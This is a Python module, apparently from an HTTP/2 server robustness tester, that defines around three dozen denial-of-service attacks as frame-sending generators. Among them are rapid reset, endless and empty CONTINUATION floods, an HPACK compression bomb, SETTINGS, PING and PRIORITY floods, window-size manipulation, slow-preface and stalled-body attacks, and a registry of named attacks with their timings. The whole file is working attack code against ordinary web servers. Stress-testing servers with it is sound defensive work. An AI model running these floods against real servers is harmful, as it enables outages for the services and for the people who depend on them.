"""The attacks, each a generator of what is done on one connection: bytes are sent, a number is a pause in seconds.

They go on until the server ends them or their time is up. `cheap` ones are no reason to end a connection by themselves;
they must only cost nothing.
"""

import itertools
from dataclasses import dataclass
from typing import Callable

import frames
import field_coding
from frames import continuation, data, frame, headers, ping, priority, rst_stream, settings, window_update

BATCH = 100
FILLER = b"".join(field_coding.literal(f"x-filler-{number}", "y" * 100) for number in range(100))


@dataclass
class Assault:
    name: str
    sentence: str
    acts: Callable
    seconds: float = 5.0
    bare: bool = False
    reads: bool = True
    acknowledges: bool = True
    windowed: bool = False
    cheap: bool = False


def on_streams(make):
    """Batches of what `make` says of each new stream."""
    for first in itertools.count(1, 2 * BATCH):
        yield b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))


def again_and_again(octets):
    """So many copies at once that they fill some 16 KiB."""
    yield from itertools.repeat(octets * max(1, 16384 // len(octets)))


def rapid_reset(target):
    get = target.request()
    yield from on_streams(lambda stream: headers(stream, get) + rst_stream(stream))


def overflowing_windows(target):
    get = target.request()
    overflow = lambda stream: window_update(stream, frames.LARGEST_WINDOW)
    yield from on_streams(lambda stream: headers(stream, get, end=False) + overflow(stream))


def empty_increments(target):
    get = target.request()
    yield from on_streams(lambda stream: headers(stream, get, end=False) + window_update(stream, 0))


def late_data(target):
    get = target.request()
    yield from on_streams(lambda stream: headers(stream, get) + data(stream))


def self_dependencies(target):
    get = target.request()
    yield from on_streams(lambda stream: headers(stream, get) + priority(stream, on=stream))


def broken_priorities(target):
    get = target.request()
    yield from on_streams(lambda stream: headers(stream, get) + frame(frames.PRIORITY, 0, stream, b"\0"))


def endless_continuation(target):
    yield headers(1, target.request(), end_headers=False)
    yield from again_and_again(continuation(1, FILLER, end_headers=False))


def empty_continuation(target):
    yield headers(1, target.request(), end_headers=False)
    yield from again_and_again(continuation(1, b"", end_headers=False))


def compression_bomb(target):
    """An entry that fills the table, named thousands of times in each request."""
    entry = field_coding.literal("x-bomb", "z" * 3900, field_coding.WITH_INDEXING)
    yield headers(1, target.request() + entry)
    bomb = target.request() + field_coding.indexed(62) * 16_000
    for stream in itertools.count(3, 2):
        yield headers(stream, bomb)


def nameless_fields(target):
    """Fields whose names and values are empty: each is three octets, and an error of its stream."""
    yield from (headers(stream, target.request() + b"\0\0\0" * 5_400) for stream in itertools.count(1, 2))


def crumbs(number):
    """Heads of so many empty crumbs of a cookie, an octet each."""

    def acts(target):
        yield from (headers(stream, target.request() + field_coding.indexed(32) * number) for stream in itertools.count(1, 2))

    return acts


def huge_headers(target):
    """A megabyte of fields in each request."""
    parts = [continuation(0, FILLER, end_headers=number == 89) for number in range(90)]
    for stream in itertools.count(1, 2):
        yield headers(stream, target.request(), end_headers=False)
        yield from (part[:5] + stream.to_bytes(4, "big") + part[9:] for part in parts)


def table_sizes(target):
    updates = (field_coding.table_size(0) + field_coding.table_size(4096)) * 4_000
    for stream in itertools.count(1, 2):
        yield headers(stream, updates + target.request())


def settings_flood(target):
    yield from again_and_again(settings((frames.CONCURRENT_STREAMS, 100)))


def ping_flood(target):
    yield from again_and_again(ping())


def ping_acknowledgements(target):
    yield from again_and_again(ping(ack=True))


def priority_flood(target):
    yield from on_streams(lambda stream: priority(stream, weight=stream & 255))


def empty_data(target):
    yield headers(1, target.request("POST"), end=False)
    yield from again_and_again(data(1, b""))


def padded_data(target):
    yield headers(1, target.request("POST"), end=False)
    yield from again_and_again(data(1, b"", padding=b"\0" * 200))


def empty_headers(target):
    yield from on_streams(lambda stream: headers(stream, b""))


def window_updates(target):
    yield from again_and_again(window_update(0, 1))


def stream_window_updates(target):
    yield headers(1, target.request("POST"), end=False)
    yield from again_and_again(window_update(1, 1))


def changing_windows(target):
    """The initial window, open and shut, while a hundred streams wait for it."""
    get = target.request(path="/bytes/100000")
    yield settings((frames.INITIAL_WINDOW, 0)) + b"".join(headers(stream, get) for stream in range(1, 200, 2))
    flip = settings((frames.INITIAL_WINDOW, 1)) + settings((frames.INITIAL_WINDOW, 0))
    yield from again_and_again(flip)


def shut_windows(target):
    """A hundred streams that may never send."""
    get = target.request(path="/bytes/100000")
    yield settings((frames.INITIAL_WINDOW, 0)) + b"".join(headers(stream, get) for stream in range(1, 200, 2))
    yield from itertools.repeat(0.5)


def narrow_windows(target):
    """A hundred streams that may send an octet at a time."""
    get = target.request(path="/bytes/100000")
    yield settings((frames.INITIAL_WINDOW, 1)) + b"".join(headers(stream, get) for stream in range(1, 200, 2))
    for _ in itertools.count():
        yield b"".join(window_update(stream, 1) for stream in range(1, 200, 2))
        yield 0.1


def endless_head(target):
    yield headers(1, target.request(), end_headers=False)
    for octet in itertools.repeat(field_coding.literal("x-slow", "s")):
        yield continuation(1, octet, end_headers=False)
        yield 0.5


def stalled_bodies(target):
    post = target.request("POST", more=[("content-length", "1000")])
    yield b"".join(headers(stream, post, end=False) for stream in range(1, 200, 2))
    yield from itertools.repeat(0.5)


def refused_streams(target):
    get = target.request(path="/bytes/100000")
    yield settings((frames.INITIAL_WINDOW, 0))
    yield from on_streams(lambda stream: headers(stream, get))


def unknown_frames(target):
    yield from again_and_again(frame(frames.UNKNOWN, payload=b"\0" * 8))


def resets_of_closed_streams(target):
    yield headers(1, target.request()) + rst_stream(1)
    yield from again_and_again(rst_stream(1))


def resets_of_idle_streams(target):
    yield from on_streams(rst_stream)


def farewells(target):
    get = target.request()
    yield from on_streams(lambda stream: frames.goaway() + headers(stream, get))


def unread_answers(target):
    get = target.request(path="/bytes/60000")
    yield window_update(0, frames.LARGEST_WINDOW - frames.INITIAL_WINDOW_SIZE)
    for stream in range(1, 401, 2):
        yield headers(stream, get)
        yield 0.002
    yield from itertools.repeat(0.5)


def slow_preface(target):
    for octet in itertools.cycle(frames.PREFACE[:-1]):
        yield bytes([octet])
        yield 0.5
        if octet == frames.PREFACE[-2]:
            yield from itertools.repeat(0.5)


def last_stream(target):
    """The highest number a stream can have, then a frame on the connection's own."""
    yield headers(0x7FFF_FFFF, target.request(), end=False) + data(0)
    yield from again_and_again(data(0))


def unacknowledged_settings(target):
    for stream in itertools.count(1, 2):
        yield headers(stream, target.request())
        yield 0.1


ASSAULTS = [
    Assault("rapid-reset", "each request is cancelled at once", rapid_reset),
    Assault("window-overflow", "each stream makes the server reset it: its window overflows", overflowing_windows),
    Assault("empty-increment", "each stream makes the server reset it: an increment of 0", empty_increments),
    Assault("late-data", "each stream makes the server reset it: DATA after its end", late_data),
    Assault("self-dependency", "each stream makes the server reset it: it depends on itself", self_dependencies),
    Assault("broken-priority", "each stream makes the server reset it: PRIORITY of one octet", broken_priorities),
    Assault("continuation", "a head without end, in CONTINUATION", endless_continuation),
    Assault("empty-continuation", "CONTINUATION without octets, without end", empty_continuation),
    Assault("bomb", "heads of 16 KB that say 60 MB", compression_bomb),
    Assault("nameless", "fields without a name or a value, thousands in each head", nameless_fields),
    Assault("crumbs", "sixteen thousand crumbs of a cookie in each head", crumbs(16_000)),
    Assault("refused-crumbs", "as many crumbs as are answered 431", crumbs(3_300)),
    Assault("huge-headers", "heads of a megabyte", huge_headers),
    Assault("table-sizes", "thousands of table size updates in each head", table_sizes),
    Assault("settings", "SETTINGS, each to be acknowledged", settings_flood),
    Assault("ping", "PING, each to be answered", ping_flood),
    Assault("ping-acks", "acknowledgements of PING that nobody sent", ping_acknowledgements),
    Assault("priority", "PRIORITY on idle streams", priority_flood),
    Assault("empty-data", "DATA without octets", empty_data),
    Assault("padded-data", "DATA with nothing but padding, as the windows allow", padded_data, windowed=True),
    Assault("empty-headers", "HEADERS without octets", empty_headers),
    Assault("window-update", "WINDOW_UPDATE of one octet on the connection", window_updates),
    Assault("stream-window-update", "WINDOW_UPDATE of one octet on a stream", stream_window_updates),
    Assault("changing-windows", "INITIAL_WINDOW_SIZE, open and shut, while streams wait", changing_windows),
    Assault("shut-windows", "a hundred answers that may not be sent", shut_windows, 15),
    Assault("endless-head", "a head that comes slowly, and has no end", endless_head, 15),
    Assault("stalled-bodies", "a hundred bodies that do not come", stalled_bodies, 15),
    Assault("refused-streams", "streams beyond the limit", refused_streams),
    Assault("unknown-frames", "frames of unknown type", unknown_frames),
    Assault("closed-resets", "RST_STREAM on a closed stream", resets_of_closed_streams),
    Assault("idle-resets", "RST_STREAM on idle streams", resets_of_idle_streams),
    Assault("farewells", "GOAWAY, again and again, and further requests", farewells),
    Assault("unread-answers", "answers that are not read", unread_answers, 8, reads=False),
    Assault("slow-preface", "a preface that comes slowly", slow_preface, 15, bare=True),
    Assault("last-stream", "HEADERS on the last stream there can be, DATA on none", last_stream),
    Assault("narrow-windows", "a hundred answers, read octet by octet", narrow_windows, 5, cheap=True),
    Assault("unacknowledged", "the server's settings are not acknowledged", unacknowledged_settings, 5, acknowledges=False, cheap=True),
]
